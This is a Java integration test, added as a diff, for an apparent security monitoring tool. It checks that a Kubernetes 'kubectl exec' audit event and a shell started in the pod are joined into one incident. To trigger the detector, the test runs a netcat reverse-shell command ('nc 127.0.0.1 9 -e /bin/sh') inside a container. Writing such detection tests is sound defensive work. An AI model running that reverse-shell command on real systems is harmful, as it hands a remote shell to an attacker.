@@ -1,0 +1,105 @@
+package dev.vigil.cli;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import dev.vigil.detect.FalcoRuleFiles;
+import dev.vigil.enrich.RealDocker;
+import dev.vigil.k8saudit.AuditFixture;
+import org.junit.jupiter.api.Test;
+
+import java.net.URI;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.List;
+
+import static dev.vigil.k8saudit.AuditFixture.request;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+/**
+ * The cluster joined to the host, with a real container: a container labelled as the kubelet
+ * labels a pod's (docker.io here), an API server's `pods/exec` audit event for that pod, and the
+ * exec itself starting a netcat that hands a shell to a socket. The alert on the Kubernetes request
+ * and the alert on the process become one incident, and its graph runs from the Kubernetes user,
+ * through the pod, to the process.
+ */
+class K8sExecJoinTest {
+    private static final HttpClient HTTP = HttpClient.newHttpClient();
+    private static final ObjectMapper JSON = new ObjectMapper();
+
+    private static JsonNode get(String base, String token, String path) throws Exception {
+        HttpResponse<String> r = HTTP.send(HttpRequest.newBuilder(URI.create(base + path)).header("Authorization", "Bearer " + token).build(),
+                HttpResponse.BodyHandlers.ofString());
+        assertEquals(200, r.statusCode(), path + ": " + r.body());
+        return JSON.readTree(r.body());
+    }
+
+    @Test
+    void aKubectlExecAndTheShellItStartedAreOneIncidentFromTheUserToTheProcess() throws Exception {
+        AgentProcess.requireRoot();
+        try (TempDir data = TempDir.create("vigil-k8s-join"); RealDocker docker = RealDocker.start()) {
+            String pod = docker.run(List.of("io.kubernetes.pod.name=web-1", "io.kubernetes.pod.namespace=shop",
+                    "io.kubernetes.container.name=web"), "sleep", "600");
+            try (AgentProcess agent = AgentProcess.start("--add-rules", "--rules", FalcoRuleFiles.k8sAudit().toString(),
+                    "--k8s-audit", "127.0.0.1:0", "--k8s-audit-insecure", "--cluster", "prod", "--data", data.path().toString(),
+                    "--listen", "127.0.0.1:0")) {
+                String hook = agent.stderr.stream().filter(l -> l.startsWith("vigil: Kubernetes audit webhook ")).findFirst().orElseThrow().split(" ")[4];
+                // what the API server records for `kubectl exec -it web-1 -n shop -- sh`; its webhook may deliver it after the shell started
+                AuditFixture exec = request("create", "pods", "shop", "web-1").subresource("exec").stage("ResponseStarted")
+                        .uri("/api/v1/namespaces/shop/pods/web-1/exec?command=sh&container=web&stdin=true&tty=true");
+                // by its path: busybox's sh runs an applet named bare in a fork without an exec (a route of its own)
+                RealDocker.Result ran = docker.exec(pod, "sh", "-c", "/bin/nc 127.0.0.1 9 -e /bin/sh; echo vigil-join-done");
+                assertTrue(ran.out().contains("vigil-join-done"), ran.out());
+                HttpResponse<String> ok = HTTP.send(HttpRequest.newBuilder(URI.create(hook)).header("Content-Type", "application/json")
+                        .POST(HttpRequest.BodyPublishers.ofString(AuditFixture.eventList(List.of(exec)))).build(), HttpResponse.BodyHandlers.ofString());
+                assertEquals(200, ok.statusCode(), ok.body());
+
+                JsonNode shell = agent.await("Netcat or socat running a program on a socket", a -> a.path("output").asText().contains("127.0.0.1 9"));
+                JsonNode event = shell.path("events").get(0);
+                assertEquals("web-1", event.path("k8s_pod_name").asText(), "the container's pod, from its labels: " + event);
+                assertEquals("shop", event.path("k8s_ns_name").asText(), event.toString());
+                assertEquals(pod.substring(0, 12), event.path("container_id").asText().substring(0, 12), event.toString());
+                JsonNode request = agent.await("Attach/Exec Pod", a -> a.path("output").asText().contains("pod=web-1"));
+
+                String console = agent.awaitStderr(l -> l.startsWith("vigil: console http://"));
+                java.util.regex.Matcher at = java.util.regex.Pattern.compile("(http://[^/]+)/ token ([0-9a-f]+)").matcher(console);
+                assertTrue(at.find(), console);
+                String base = at.group(1), token = at.group(2);
+                JsonNode incident = null;
+                for (int i = 0; i < 100 && incident == null; i++) { // the store writes alerts in batches
+                    for (JsonNode inc : get(base, token, "/api/incidents")) {
+                        JsonNode full = get(base, token, "/api/incidents/" + inc.path("id").asText());
+                        List<String> rules = new ArrayList<>();
+                        full.path("alerts").forEach(a -> rules.add(a.path("rule").asText()));
+                        if (rules.contains("Attach/Exec Pod") && rules.contains("Netcat or socat running a program on a socket")) {
+                            incident = full;
+                        }
+                    }
+                    if (incident == null) {
+                        Thread.sleep(100);
+                    }
+                }
+                assertTrue(incident != null, "one incident holds the exec request and the shell: " + get(base, token, "/api/incidents")
+                        + "; request " + request.path("id") + ", shell " + shell.path("id"));
+                JsonNode graph = get(base, token, "/api/incidents/" + incident.path("id").asText() + "/graph");
+                List<String> edges = new ArrayList<>();
+                graph.path("edges").forEach(e -> edges.add(e.path("from").asText() + " -" + e.path("label").asText() + "-> " + e.path("to").asText()));
+                assertTrue(edges.contains("k8s:alice -kubectl exec: sh-> pod:shop/web-1"), "the user's exec into the pod: " + edges);
+                String ncProcess = event.path("exec_id").asText();
+                // from the pod down the spawned edges to the netcat
+                java.util.Set<String> reached = new java.util.HashSet<>(List.of("pod:shop/web-1"));
+                for (int hop = 0; hop < 8; hop++) {
+                    for (JsonNode e : graph.path("edges")) {
+                        if (reached.contains(e.path("from").asText())) {
+                            reached.add(e.path("to").asText());
+                        }
+                    }
+                }
+                assertTrue(reached.contains(ncProcess), "a path from the pod to the netcat " + ncProcess + ": " + edges);
+            }
+        }
+    }
+}
